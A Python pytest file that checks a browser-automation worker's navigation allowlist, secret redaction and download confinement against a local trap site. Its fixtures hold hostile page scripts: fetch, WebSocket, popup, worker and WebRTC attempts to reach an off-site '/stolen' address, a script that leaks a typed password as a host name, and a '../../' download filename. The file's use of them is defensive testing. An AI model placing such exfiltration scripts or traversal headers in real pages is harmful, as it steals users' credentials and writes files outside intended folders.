"""The navigation allowlist holds against a page that tries to send the browser elsewhere.

A small real site ("trap") lives on 127.0.0.1, its only allowed host. Its pages point the
browser at `localhost` — the same server under a name the site does not own (and a loopback
name Chromium would never proxy by itself) — by a link, a redirect, an injected `fetch()`, a
popup, a worker's fetch, a WebSocket and an image that redirects. The server's own log of what
reached it is the ground truth: the off-site address must never be requested. Each page says it
is done ("settled") only once its attempt has failed, so the test waits on the page, not a
clock.
"""

from __future__ import annotations

import asyncio
import json
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from worker.browser import BrowserHost
from worker.contract import BrowserJob, JobStatus, StepStatus, TraceMode
from worker.executor import Runtime, run_job
from worker.script import ScriptStore

REGISTRY = """
site: trap
base_url: http://127.0.0.1:1
allowed_hosts: [127.0.0.1]
secret_elements: [page.password]
elements:
  page.password: [{css: "#pw"}]
  page.header: [{css: "h1"}]
  page.away: [{css: "a#away"}]
  page.x: [{css: "h1"}]
  page.download: [{css: "a#dl"}]
  page.settled: [{css: "body[data-fetched]"}]
"""
SCRIPTS = {
    "link": '[{id: open, goto: "/"}, {id: leave, click: page.away, expect: {visible: page.x}}]',
    "redirect": '[{id: open, goto: "/redirect", expect: {visible: page.header}}]',
    "fetch": '[{id: open, goto: "/fetch", expect: {visible: page.settled}}]',
    "popup": '[{id: open, goto: "/popup", expect: {visible: page.settled}}]',
    "worker": '[{id: open, goto: "/worker", expect: {visible: page.settled}}]',
    "websocket": '[{id: open, goto: "/websocket", expect: {visible: page.settled}}]',
    "image": '[{id: open, goto: "/image", expect: {visible: page.settled}}]',
    "download": '[{id: open, goto: "/dl"}, {id: fetch_file, click: page.download}]',
    "webrtc": '[{id: open, goto: "/webrtc", expect: {visible: page.settled}}]',
    "download_named": '[{id: open, goto: "/dl-named"}, {id: pw, fill: {target: page.password, '
    'value: "{{ inputs.pw }}"}}, {id: fetch_file, click: page.download}]',
    "exfil": '[{id: open, goto: "/exfil"}, {id: pw, fill: {target: page.password, '
    'value: "{{ inputs.pw }}"}, expect: {visible: page.settled}}]',
}


@dataclass
class Trap:
    url: str
    port: int
    hits: list[str] = field(default_factory=list)
    udp_port: int = 0  # a STUN/TURN "server" off the site, on 127.0.0.2
    datagrams: list[bytes] = field(default_factory=list)

    @property
    def stolen(self) -> list[str]:
        return [hit for hit in self.hits if hit.startswith("/stolen")]


@pytest.fixture
async def trap() -> AsyncIterator[Trap]:
    site = Trap(url="", port=0)
    away = "http://localhost:{port}/stolen"

    async def page(request: web.Request) -> web.Response:
        site.hits.append(request.path_qs)
        target = away.format(port=site.port)
        settle = "document.body.dataset.fetched = '1'"
        worker = f"fetch('{target}?via=worker').catch(() => {{}}).finally(() => postMessage(1))"
        bodies = {
            "/": f'<h1>Trap</h1><a id="away" href="{target}?via=link">away</a>',
            "/fetch": "<h1>Trap</h1><script>fetch('" + target + "?via=fetch')"
            f".catch(() => {{}}).finally(() => {{ {settle}; }});</script>",
            # The popup opens on the site, then leaves it; the opener settles once the popup
            # shows a page of another origin (the error page of the refused request).
            "/popup": "<h1>Trap</h1><script>const w = window.open('/popup-leaves');"
            "const look = setInterval(() => { try { if (w.location.pathname !== '/popup-leaves') "
            f"return; }} catch (e) {{ clearInterval(look); {settle}; }} }}, 10);</script>",
            "/popup-leaves": f"<script>location.href = '{target}?via=popup';</script>",
            "/worker": "<h1>Trap</h1><script>const w = new Worker(URL.createObjectURL("
            f"new Blob([{json.dumps(worker)}]))); w.onmessage = () => {{ {settle}; }};</script>",
            "/websocket": "<h1>Trap</h1><script>const ws = new WebSocket('"
            + target.replace("http://", "ws://")
            + f"?via=websocket'); ws.onerror = () => {{ {settle}; }};</script>",
            "/image": f'<h1>Trap</h1><img src="/image-redirect" onerror="{settle}">',
            # STUN and TURN go over UDP, which no proxy rule covers; the page settles once
            # the browser has gathered every way it would connect.
            "/webrtc": "<h1>Trap</h1><script>const pc = new RTCPeerConnection({iceServers: ["
            f"{{urls: 'stun:127.0.0.2:{site.udp_port}'}}, {{urls: 'turn:127.0.0.2:"
            f"{site.udp_port}?transport=udp', username: 'stolen', credential: 'x'}}]}});"
            "pc.createDataChannel('x'); pc.onicegatheringstatechange = () => {"
            f"if (pc.iceGatheringState === 'complete') {{ {settle}; }} }};"
            "pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>",
            # The page reads what is typed into its password field and tries to send it out
            # as a host name, which the browser writes in lower case.
            "/exfil": '<h1>Trap</h1><input id="pw" type="password"><script>'
            "document.getElementById('pw').addEventListener('input', (e) => fetch("
            f"'http://' + e.target.value + '.localhost:{site.port}/stolen?via=exfil')"
            f".catch(() => {{}}).finally(() => {{ {settle}; }}));</script>",
            "/stolen": "<h1>Stolen</h1>",
            "/dl-named": '<h1>Files</h1><input id="pw" type="password"><a id="dl">export</a>'
            "<script>document.getElementById('pw').addEventListener('input', (e) => {"
            "document.getElementById('dl').href = '/file-named?who=' + e.target.value; });"
            "</script>",
            "/dl": '<h1>Files</h1><a id="dl" href="/file">statement</a>',
        }
        if request.path == "/file-named":  # an export named after what was typed
            name = f"export-{request.query['who']}.csv"
            disposition = f'attachment; filename="{name}"'
            return web.Response(text="export body", headers={"Content-Disposition": disposition})
        if request.path == "/file":
            # A hostile name: the site would like the file two folders up.
            disposition = 'attachment; filename="../../escaped.txt"'
            return web.Response(text="statement body", headers={"Content-Disposition": disposition})
        if request.path == "/redirect":
            raise web.HTTPFound(target + "?via=redirect")
        if request.path == "/image-redirect":  # an allowed address that sends the image away
            raise web.HTTPFound(target + "?via=image")
        if request.path == "/favicon.ico":
            raise web.HTTPNotFound()
        return web.Response(text=bodies[request.path], content_type="text/html")

    class Heard(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: tuple[str | Any, int]) -> None:
            site.datagrams.append(data)

    loop = asyncio.get_running_loop()
    udp, _ = await loop.create_datagram_endpoint(Heard, local_addr=("127.0.0.2", 0))
    site.udp_port = udp.get_extra_info("sockname")[1]
    app = web.Application()
    app.router.add_get("/{tail:.*}", page)
    runner = web.AppRunner(app)
    await runner.setup()
    server = web.TCPSite(runner, "127.0.0.1", 0)
    await server.start()
    site.port = runner.addresses[0][1]
    site.url = f"http://127.0.0.1:{site.port}"
    yield site
    udp.close()
    await runner.cleanup()


def trap_runtime_root(runtime: Runtime) -> Path:
    root: Path = runtime.artifacts.root  # type: ignore[attr-defined]
    return root


@pytest.fixture
def trap_runtime(runtime: Runtime, tmp_path: Path) -> Runtime:
    scripts, selectors = tmp_path / "scripts", tmp_path / "selectors"
    (scripts / "trap").mkdir(parents=True)
    selectors.mkdir()
    (selectors / "trap.yaml").write_text(REGISTRY)
    for name, steps in SCRIPTS.items():
        inputs = "inputs: {pw: {type: string, secret: true}}\n" if "inputs.pw" in steps else ""
        (scripts / "trap" / f"{name}.yaml").write_text(
            f"name: trap/{name}\nversion: 1\nsite: trap\n{inputs}steps: {steps}\n"
        )
    return replace(runtime, scripts=ScriptStore(scripts, selectors))


@pytest.mark.parametrize(
    "how", ["link", "redirect", "fetch", "popup", "worker", "websocket", "image"]
)
async def test_requests_outside_the_allowlist_are_blocked_and_reported(
    how: str, trap: Trap, trap_runtime: Runtime, browser_host: BrowserHost
) -> None:
    job = BrowserJob(job_id=f"trap-{how}", script=f"trap/{how}", site_url=trap.url)
    report = await run_job(job, trap_runtime)

    assert trap.stolen == []  # nothing ever reached the off-site address
    assert report.status == JobStatus.failed
    assert report.error is not None and report.error.code == "navigation_blocked"
    failed = next(s for s in report.steps if s.status == StepStatus.failed)
    assert failed.failure is not None
    assert f"localhost:{trap.port}/stolen?via={how}" in (failed.failure.evidence or "")


async def test_webrtc_reaches_no_host_outside_the_allowlist(
    trap: Trap, trap_runtime: Runtime
) -> None:
    # A page's RTCPeerConnection sent STUN and TURN packets (a TURN user name is the page's to
    # choose) to any address it named: the context's proxy rules cover HTTP and WebSockets,
    # not WebRTC's UDP. Chromium now sends WebRTC only through the proxy (the sink).
    job = BrowserJob(job_id="trap-webrtc", script="trap/webrtc", site_url=trap.url)
    report = await run_job(job, trap_runtime)

    assert trap.datagrams == []
    assert report.status == JobStatus.succeeded, report.error  # the page tried, and settled


async def test_a_secret_a_page_sends_out_in_a_host_name_is_redacted_from_the_report(
    trap: Trap, trap_runtime: Runtime, caplog: pytest.LogCaptureFixture
) -> None:
    # The blocked request's URL is the evidence, redacted; but a host name is written in lower
    # case, and `Pw-9931-ZZ` was looked for as it is: the report kept `pw-9931-zz`.
    password = "Pw-9931-ZZ"
    job = BrowserJob(
        job_id="trap-exfil", script="trap/exfil", site_url=trap.url, inputs={"pw": password},
        trace=TraceMode.always, har=True,
    )  # fmt: skip
    report = await run_job(job, trap_runtime)

    assert trap.stolen == []
    assert report.error is not None and report.error.code == "navigation_blocked"
    assert f"***.localhost:{trap.port}/stolen?via=exfil" in (report.error.evidence or "")
    assert password.lower() not in report.model_dump_json().lower()
    assert password.lower() not in caplog.text.lower()
    for file in await asyncio.to_thread(lambda: list(trap_runtime_root(trap_runtime).rglob("*"))):
        if file.suffix == ".zip":
            with zipfile.ZipFile(file) as trace:
                data = b"".join(trace.read(name) for name in trace.namelist())
        elif file.is_file():
            data = file.read_bytes()
        else:
            continue
        assert password.lower().encode() not in data.lower(), file


async def test_a_download_named_after_a_typed_secret_is_kept_under_a_masked_name(
    trap: Trap, trap_runtime: Runtime, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    # The site named the file `export-<what was typed>.csv`: it was kept, and logged, so.
    password = "Pw-9931-zz"
    job = BrowserJob(
        job_id="trap-dl-named", script="trap/download_named", site_url=trap.url,
        inputs={"pw": password},
    )  # fmt: skip
    report = await run_job(job, trap_runtime)

    assert report.status == JobStatus.succeeded, report.error
    kept = await asyncio.to_thread(lambda: list(tmp_path.rglob("export-*")))
    assert [k.name for k in kept] == ["export-___.csv"]
    assert kept[0].read_text() == "export body"
    assert password not in caplog.text


async def test_downloads_stay_in_the_jobs_own_directory(
    trap: Trap, trap_runtime: Runtime, tmp_path: Path
) -> None:
    job = BrowserJob(job_id="trap-download", script="trap/download", site_url=trap.url)
    report = await run_job(job, trap_runtime)

    assert report.status == JobStatus.succeeded, report.error
    # Chromium itself flattens the name (`_.._escaped.txt`); either way it stays in the folder.
    kept = await asyncio.to_thread(lambda: list(tmp_path.rglob("*escaped.txt")))
    assert len(kept) == 1 and kept[0].read_text() == "statement body"
    assert kept[0].parent.name == "downloads" and kept[0].parent.parent.name == "trap-download"
    assert kept[0].stat().st_mode & 0o777 == 0o600
